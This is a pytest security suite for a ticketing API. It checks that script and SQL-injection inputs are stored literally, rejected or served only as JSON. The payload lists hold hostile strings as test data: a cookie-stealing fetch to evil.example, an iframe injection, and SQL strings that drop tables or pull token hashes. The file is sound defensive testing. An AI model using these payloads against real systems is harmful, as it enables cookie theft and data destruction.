"""Hostile text: script payloads kept as inert data, SQL-looking filters kept as values."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from tests.factories import Actor
from tests.security.conftest import Snapshot

SCRIPTS = [
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "</textarea><iframe src=//evil.example>",
    "\u202egnp.exe",
]


def _json_only(response: Any) -> None:
    """An API answer is never something a browser would render or sniff as a page."""
    assert response.mimetype in ("application/json", "application/problem+json")
    assert "text/html" not in response.headers.get("Content-Type", "")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'self'" in response.headers["Content-Security-Policy"]


@pytest.mark.parametrize("payload", SCRIPTS)
def test_script_payloads_are_stored_verbatim_and_served_as_json(
    agent: Actor, requester: Actor, payload: str
) -> None:
    created = requester.post(
        "/api/tickets", json={"title": payload, "description": payload, "category": payload}
    )
    assert created.status_code == 201
    _json_only(created)
    url = f"/api/tickets/{created.get_json()['id']}"
    reply = agent.post(f"{url}/comments", json={"content": payload})
    assert reply.status_code == 201
    for response in (
        requester.get(url),
        requester.get(f"{url}/comments"),
        requester.get(f"{url}/history"),
        agent.get("/api/tickets", query_string={"q": payload}),
    ):
        assert response.status_code == 200
        _json_only(response)
    ticket = requester.get(url).get_json()
    assert (ticket["title"], ticket["description"], ticket["category"]) == (payload,) * 3
    assert requester.get(f"{url}/comments").get_json()[0]["content"] == payload


@pytest.mark.parametrize("payload", SCRIPTS[:3])
def test_errors_never_reflect_input_as_html(agent: Actor, payload: str) -> None:
    for response in (
        agent.get(f"/api/tickets/{payload}"),
        agent.get(f"/api/{payload}"),
        agent.get("/api/tickets", query_string={"sort": payload}),
        agent.get("/api/tickets", query_string={"status": payload}),
        agent.post("/api/tickets", json={"description": "x", "priority": payload}),
        agent.post("/api/tickets", json={payload: "x", "description": "x"}),
    ):
        assert 400 <= response.status_code < 500
        _json_only(response)


SQL_VALUES = [
    "' OR '1'='1",
    "x' OR 1=1 --",
    "1; DROP TABLE tickets; --",
    "') UNION SELECT token_hash FROM api_tokens --",
    "%",
    "_",
    "\\",
]


@pytest.mark.parametrize("value", SQL_VALUES)
def test_sql_looking_text_filters_match_only_literally(
    agent: Actor, requester: Actor, snapshot: Callable[[], Snapshot], value: str
) -> None:
    agent.create_ticket(title="Printer jam", category="hardware")
    requester.create_ticket(title="VPN down", category="network")
    before = snapshot()
    for query in ({"q": value}, {"category": value}):
        response = agent.get("/api/tickets", query_string=query)
        assert response.status_code == 200, query
        assert response.get_json() == [], query
        assert response.headers["X-Total-Count"] == "0"
        mine = requester.get("/api/tickets", query_string=query)
        assert mine.status_code == 200
        assert mine.get_json() == []
    assert snapshot() == before


def test_like_wildcards_are_literal_characters(agent: Actor) -> None:
    agent.create_ticket(title="100% disk usage")
    agent.create_ticket(title="disk_usage alert")
    agent.create_ticket(title="disk usage")
    titles = [t["title"] for t in agent.get("/api/tickets", query_string={"q": "%"}).get_json()]
    assert titles == ["100% disk usage"]
    found = agent.get("/api/tickets", query_string={"q": "disk_usage"}).get_json()
    assert [t["title"] for t in found] == ["disk_usage alert"]


@pytest.mark.parametrize(
    ("param", "value"),
    [
        ("sort", "id; DROP TABLE tickets"),
        ("sort", "(SELECT 1)"),
        ("sort", "opened_at DESC, (SELECT token_hash FROM api_tokens)"),
        ("sort", "-id--"),
        ("status", "open' OR '1'='1"),
        ("status", "open)) OR 1=1 --"),
        ("priority", "high' --"),
        ("requester", "1 OR 1=1"),
        ("requester", "1)--"),
        ("assignee", "1;--"),
        ("assignee", "me' OR '1'='1"),
        ("page", "1; DELETE FROM tickets"),
        ("per_page", "25 OR 1=1"),
    ],
)
def test_sql_looking_enumerated_values_are_422_naming_the_parameter(
    agent: Actor, snapshot: Callable[[], Snapshot], param: str, value: str
) -> None:
    agent.create_ticket()
    before = snapshot()
    response = agent.get("/api/tickets", query_string={param: value})
    assert response.status_code == 422
    _json_only(response)
    assert {error["field"].split(".")[0] for error in response.get_json()["errors"]} == {param}
    assert snapshot() == before
    assert len(agent.get("/api/tickets").get_json()) == 1


@pytest.mark.parametrize("value", ["1 OR 1=1", "1;DROP TABLE tickets", "0x1", "-1", "1e3"])
def test_sql_looking_ids_in_paths_are_not_found(
    agent: Actor, snapshot: Callable[[], Snapshot], value: str
) -> None:
    agent.create_ticket()
    before = snapshot()
    for url in (f"/api/tickets/{value}", f"/api/tickets/{value}/comments"):
        response = agent.get(url)
        assert response.status_code == 404
        _json_only(response)
    assert snapshot() == before
